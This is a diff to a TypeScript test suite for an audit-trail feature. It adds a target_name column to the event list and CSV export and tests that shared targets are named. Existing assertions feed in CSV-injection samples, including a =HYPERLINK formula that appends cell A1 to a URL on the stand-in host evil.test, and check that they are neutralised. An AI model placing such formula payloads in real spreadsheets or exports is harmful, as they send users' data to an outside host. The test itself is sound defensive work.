@@ -124,6 +124,7 @@ describe('audit trail', () => {
         action: 'deals.deal.approved',
         targetType: 'deal',
         targetId: 'd-1',
+        targetName: null,
         partnerId: t.partnerId,
         actor: { id: t.staffId, name: 'Staff', email: 'staff@filters.test' },
         actorKind: 'staff:session',
@@ -167,6 +168,25 @@ describe('audit trail', () => {
         expect(answer.status, forged).toBe(400);
         expect(answer.body.errors).toContainEqual(expect.objectContaining({ in: 'query', field: '/cursor' }));
       }
+    });
+
+    it('names the shared targets — a person, a partner, a client — as they are now, in the list and the CSV (issue 23, item 9)', async () => {
+      const named = await h.tenant('named-targets');
+      const clientId = await asTenant(h, named.id, async (trx) => (await trx('clients').insert({ tenantId: named.id, partnerId: named.partnerId, name: 'Contoso Ltd' }).returning('id'))[0].id as string);
+      await addEvents(named, [
+        { action: 'access.person.invited', createdAt: '2026-02-01T10:00:00Z', targetType: 'person', targetId: named.memberId },
+        { action: 'access.partner.updated', createdAt: '2026-02-02T10:00:00Z', targetType: 'partner', targetId: named.partnerId },
+        { action: 'fleet.client.fed', createdAt: '2026-02-03T10:00:00Z', targetType: 'client', targetId: clientId },
+        { action: 'access.person.removed', createdAt: '2026-02-04T10:00:00Z', targetType: 'person', targetId: '00000000-0000-4000-8000-000000000000' },
+      ]);
+      const items = (await list(staff(named))).body.items as { action: string; targetName: string | null }[];
+      const nameOf = (action: string) => items.find((i) => i.action === action)!.targetName;
+      expect(nameOf('access.person.invited')).toBe('Member');
+      expect(nameOf('access.partner.updated')).toBe('named-targets partner');
+      expect(nameOf('fleet.client.fed')).toBe('Contoso Ltd');
+      expect(nameOf('access.person.removed')).toBeNull();
+      const rows = parseCsv((await exportCsv(staff(named))).text);
+      expect(rows.find((r) => r[1] === 'fleet.client.fed')![6]).toBe('Contoso Ltd');
     });
 
     it('shows real audited changes with who made them, from where', async () => {
@@ -241,7 +261,7 @@ describe('audit trail', () => {
       expect(csv.status, csv.text).toBe(200);
       const rows = parseCsv(csv.text);
       expect(rows).toHaveLength(1 + own.length);
-      expect(rows.slice(1).every((r) => r[6] === t.partnerId)).toBe(true);
+      expect(rows.slice(1).every((r) => r[7] === t.partnerId)).toBe(true);
 
       // A member acting for another organisation sees that one's, and only it.
       const otherMember = h.member(t, [P.auditRead], t.otherPartnerId);
@@ -290,18 +310,18 @@ describe('audit trail', () => {
       expect(answer.headers.get('x-content-type-options')).toBe('nosniff');
 
       const rows = parseCsv(answer.text);
-      expect(rows[0]).toEqual(['created_at', 'action', 'actor_email', 'actor_name', 'target_type', 'target_id', 'partner_id', 'ip', 'request_id', 'before', 'after']);
+      expect(rows[0]).toEqual(['created_at', 'action', 'actor_email', 'actor_name', 'target_type', 'target_id', 'target_name', 'partner_id', 'ip', 'request_id', 'before', 'after']);
       expect(rows).toHaveLength(3);
       const [updated, submitted] = rows.slice(1);
-      expect(submitted).toEqual(['2026-01-02T08:00:00.500000Z', 'deals.deal.submitted', 'staff@export.test', 'Staff', 'deal', 'd-1', t.partnerId, '10.0.0.1', 'req-1', '', JSON.stringify({ customer: 'Acme, "Inc."\nEMEA' })]);
+      expect(submitted).toEqual(['2026-01-02T08:00:00.500000Z', 'deals.deal.submitted', 'staff@export.test', 'Staff', 'deal', 'd-1', '', t.partnerId, '10.0.0.1', 'req-1', '', JSON.stringify({ customer: 'Acme, "Inc."\nEMEA' })]);
       // Quotes, commas and newlines are inside a quoted cell.
       expect(answer.text).toContain('"{""customer"":""Acme, \\""Inc.\\""\\nEMEA""}"');
 
       // A name or id that a spreadsheet would run as a formula is neutralised; the JSON stays intact.
       expect(updated[3]).toBe(`'=HYPERLINK("http://evil.test/?"&A1,"Click me")`);
       expect(updated[5]).toBe("'+1-555-0100");
-      expect(JSON.parse(updated[10])).toEqual({ note: '=HYPERLINK("http://evil.test","x")' });
-      expect(updated[6]).toBe('');
+      expect(JSON.parse(updated[11])).toEqual({ note: '=HYPERLINK("http://evil.test","x")' });
+      expect(updated[7]).toBe('');
 
       const everything = parseCsv((await exportCsv(staff(t))).text);
       const odd = everything.find((r) => r[1] === 'other.thing')!;
